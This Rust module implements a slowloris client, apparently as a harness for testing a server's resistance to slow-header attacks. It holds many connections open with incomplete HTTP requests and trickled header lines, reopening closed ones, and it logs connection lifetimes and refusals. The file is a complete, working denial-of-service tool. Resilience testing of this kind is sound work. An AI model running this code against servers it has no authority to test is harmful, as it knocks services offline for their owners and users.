//! A slowloris client: it holds many connections to an HTTP server, each
//! sending the start of a request's headers and then one more header line
//! now and then, never the blank line that would end them. When the server
//! closes one, it opens another, so the pressure lasts as long as the run.
//! It records how long the server let each connection live.

use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::Instant;
use tokio_util::sync::CancellationToken;

/// A header line is sent this often on each connection.
pub const TRICKLE: Duration = Duration::from_secs(1);

/// After a failed connect (the server is down, or refused us), wait this
/// long before the next try.
const RECONNECT_PAUSE: Duration = Duration::from_millis(200);

/// What the attack saw.
#[derive(Debug, Clone, Default)]
pub struct SlowlorisRecord {
    /// Connections opened.
    pub opened: u64,
    /// Connects that failed.
    pub failed_connects: u64,
    /// Connections the server answered (a refusal past its cap) rather than
    /// leaving them to time out.
    pub answered: u64,
    /// For each connection the server closed: how long after the first byte.
    pub closed_after: Vec<Duration>,
    /// For each connection still open when the attack stopped: its age.
    pub open_at_stop: Vec<Duration>,
    /// Most connections held open at once.
    pub peak_held: usize,
    held: usize,
}

/// A running attack; [`Slowloris::stop`] ends it.
pub struct Slowloris {
    stop: CancellationToken,
    tasks: JoinSet<()>,
    record: Arc<Mutex<SlowlorisRecord>>,
}

impl Slowloris {
    /// Starts holding `connections` connections to `addr`.
    pub fn start(addr: SocketAddr, connections: usize) -> Self {
        let stop = CancellationToken::new();
        let record = Arc::new(Mutex::new(SlowlorisRecord::default()));
        let mut tasks = JoinSet::new();
        for _ in 0..connections {
            tasks.spawn(hold(addr, stop.clone(), Arc::clone(&record)));
        }
        Self {
            stop,
            tasks,
            record,
        }
    }

    /// A copy of what it saw so far.
    pub fn record(&self) -> SlowlorisRecord {
        lock(&self.record).clone()
    }

    /// Closes every connection it holds and returns what it saw.
    pub async fn stop(mut self) -> SlowlorisRecord {
        self.stop.cancel();
        while self.tasks.join_next().await.is_some() {}
        lock(&self.record).clone()
    }
}

fn lock(record: &Mutex<SlowlorisRecord>) -> std::sync::MutexGuard<'_, SlowlorisRecord> {
    match record.lock() {
        Ok(record) => record,
        Err(poisoned) => poisoned.into_inner(),
    }
}

/// One connection slot of the attack, reopened until `stop`.
async fn hold(addr: SocketAddr, stop: CancellationToken, record: Arc<Mutex<SlowlorisRecord>>) {
    while !stop.is_cancelled() {
        let connected = tokio::select! {
            connected = TcpStream::connect(addr) => connected,
            _ = stop.cancelled() => return,
        };
        let mut stream = match connected {
            Ok(stream) => stream,
            Err(_) => {
                lock(&record).failed_connects += 1;
                tokio::select! {
                    _ = tokio::time::sleep(RECONNECT_PAUSE) => continue,
                    _ = stop.cancelled() => return,
                }
            }
        };
        if stream
            .write_all(b"GET /v1/products HTTP/1.1\r\nHost: api\r\nUser-Agent: slowloris\r\n")
            .await
            .is_err()
        {
            // Closed at once (refused past a full cap): as a failed connect.
            lock(&record).failed_connects += 1;
            tokio::select! {
                _ = tokio::time::sleep(RECONNECT_PAUSE) => continue,
                _ = stop.cancelled() => return,
            }
        }
        let opened = Instant::now();
        {
            let mut record = lock(&record);
            record.opened += 1;
            record.held += 1;
            record.peak_held = record.peak_held.max(record.held);
        }
        let mut trickle = tokio::time::interval_at(opened + TRICKLE, TRICKLE);
        let mut answer = [0u8; 1024];
        let mut answered = false;
        let stopped = loop {
            tokio::select! {
                read = stream.read(&mut answer) => match read {
                    Ok(n) if n > 0 => answered = true,
                    _ => break false,
                },
                _ = trickle.tick() => {
                    // A failed write means a close, which the read sees.
                    let _ = stream.write_all(b"X-Still-Here: yes\r\n").await;
                }
                _ = stop.cancelled() => break true,
            }
        };
        let mut record = lock(&record);
        record.held -= 1;
        if answered {
            record.answered += 1;
        }
        if stopped {
            record.open_at_stop.push(opened.elapsed());
            return;
        }
        record.closed_after.push(opened.elapsed());
    }
}
